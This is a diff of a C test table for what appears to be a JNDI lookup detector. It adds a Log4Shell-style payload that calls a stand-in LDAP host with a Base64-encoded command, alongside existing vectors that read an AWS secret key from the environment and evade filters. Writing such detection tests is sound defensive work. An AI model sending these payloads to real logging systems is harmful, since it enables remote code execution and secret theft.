@@ -168,6 +168,7 @@ static void test_jndi_grammar(void **st)
 		{"${${lower:e}nv:AWS_SECRET_ACCESS_KEY}", J},
 		{"${sys:user.home}", J},
 		{"${::-$}{jndi:ldap://evil/a}", J},
+		{"${jndi:ldap://x.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}", J},
 	};
 	run_vtable("jndi-grammar", t, sizeof(t) / sizeof(t[0]));
 }
